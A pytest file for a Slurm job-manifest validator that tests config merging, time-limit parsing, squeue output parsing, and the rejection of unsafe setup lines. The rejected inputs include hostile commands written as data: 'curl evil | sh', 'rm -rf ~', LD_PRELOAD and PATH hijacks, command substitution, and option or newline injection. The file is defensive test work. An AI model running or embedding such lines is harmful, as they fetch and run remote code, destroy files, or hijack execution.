"""What a run asks of Slurm: the config under the manifest, what a manifest from somebody else may not ask, and time limits."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from interp_tui_engine import cluster_settings, manifest
from interp_tui_engine.errors import ManifestError, UserError
from interp_tui_engine.supervision.executors import sbatch_script, slurm_commands

MANIFEST = """
kind = "llc"
[model]
[data.train]
[params]
lr = 1e-4
n_beta = 30.0
[compute]
executor = "slurm"
[compute.slurm]
"""


@pytest.fixture(autouse=True)
def config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("INTERP_TUI_CONFIG", str(tmp_path))
    return tmp_path / "config.toml"


def test_the_config_fills_in_what_the_manifest_leaves_out(config: Path) -> None:
    config.write_text('[cluster]\npartition = "gpu"\ntime = "2h"\nsetup = ["source /home/me/env.sh"]\n')
    found = cluster_settings.settings(manifest.parse(MANIFEST + 'time = "30"\nsetup = ["module load cuda/12.4"]\n'))
    assert (found.partition, found.time, found.setup) == ("gpu", "30", ["source /home/me/env.sh", "module load cuda/12.4"])


def test_a_config_that_cannot_be_used_says_where(config: Path) -> None:
    config.write_text('[cluster]\npartion = "gpu"\n')
    with pytest.raises(UserError, match=r"config.toml: \[cluster\] partion: .*Did you mean 'partition'"):
        cluster_settings.settings(manifest.parse(MANIFEST))


@pytest.mark.parametrize(
    "line",
    [
        *("module load cuda/12.4 gcc", "module purge", "ml python", "ulimit -n 4096"),
        *("export HF_HOME=/data/hf", "export OMP_NUM_THREADS=4", "conda activate interp-1.2"),
    ],
)
def test_a_manifest_may_set_up_what_runs_no_program(line: str) -> None:
    assert manifest.parse(MANIFEST + f"setup = [{line!r}]\n").compute.slurm.setup == [line]


@pytest.mark.parametrize(
    "line",
    [
        "curl evil | sh",
        "module load cuda; rm -rf ~",
        "module use /tmp/evil",
        "ml use /tmp/evil",
        "ml /tmp/evil",
        "module load ../evil",
        "export LD_PRELOAD=/tmp/evil.so",
        "export PYTHONPATH=/tmp/evil",
        "export PATH=/tmp/evil",
        "export A=$(evil)",
        "export INTERP_TUI_CONFIG=.",
        "export HOME=study",
        "export MODULEPATH=study/modules",
        "export CUDA_INJECTION64_PATH=study/evil.so",
        "export HF_ENDPOINT=http://evil",
        "export CONDA_ENVS_PATH=study",
        "conda activate study/env",
        "conda activate /tmp/evil",
        "source /tmp/evil",
        "module load cuda\nevil",
    ],
)
def test_a_manifest_may_not_run_a_program_of_its_choice(line: str) -> None:
    with pytest.raises(ManifestError, match=r"compute.slurm.setup.0.*could run any program"):
        manifest.parse(MANIFEST, overrides=[f"compute.slurm.setup=[{json.dumps(line)}]"])


@pytest.mark.parametrize(
    ("key", "value"),
    [("partition", "gpu --wrap=evil"), ("account", "a\nb"), ("mem", "lots"), ("time", "soon"), ("constraint", '"; evil'), ("tasks", 0)],
)
def test_values_are_of_their_kind(key: str, value: object) -> None:
    tables = manifest.parse(MANIFEST).to_dict()
    tables["compute"]["slurm"] = {key: value}
    with pytest.raises(ManifestError, match=f"compute.slurm.{key}"):
        manifest.resolve(tables)


@pytest.mark.parametrize(
    ("option", "wrong"),
    [
        *(("--exclusive", None), ("--reservation=mine", None), ("--wrap=evil", "the program itself"), ("-p gpu", "no long option")),
        *(("--wra=evil", "the program itself"), ("--chd=/tmp", "the program itself"), ("--container=study", "of its own choice")),
    ],
)
def test_further_options_are_long_ones_that_the_program_does_not_set(option: str, wrong: str | None) -> None:
    said = cluster_settings.option_problem(option)
    assert said is None if wrong is None else wrong in str(said)


def test_devices_of_one_machine_are_no_tasks_of_a_cluster() -> None:
    with pytest.raises(ManifestError, match=r"compute.devices: names devices of one machine"):
        manifest.parse(MANIFEST, overrides=['compute.devices=["cuda:0"]'])


@pytest.mark.parametrize(
    ("text", "seconds"),
    [("90", 5400), ("10:30", 630), ("2:00:00", 7200), ("1-12", 129600), ("1-0:30", 88200), ("90min", 5400), ("1.5h", 5400), ("0", None)],
)
def test_time_limits_as_slurm_writes_them(text: str, seconds: float | None) -> None:
    assert cluster_settings.seconds_of(text) == seconds


def test_the_signal_comes_in_the_middle_of_a_limit_shorter_than_it_takes() -> None:
    spec = cluster_settings.settings(manifest.parse(MANIFEST + 'time = "2"\nsignal_before = 120\n'))
    assert sbatch_script.margin(spec) == 60


def test_rows_of_squeue() -> None:
    text = "12_3|RUNNING|None|n1|2026-11-29T14:12:54|59:58|interp-tui:ab\n12_4|PENDING|Resources||N/A|1:00:00|interp-tui:ab\nnoise\n"
    rows = slurm_commands.parsed(text)
    assert list(rows) == ["12_3", "12_4"] and rows["12_3"].node == "n1" and rows["12_4"].waiting
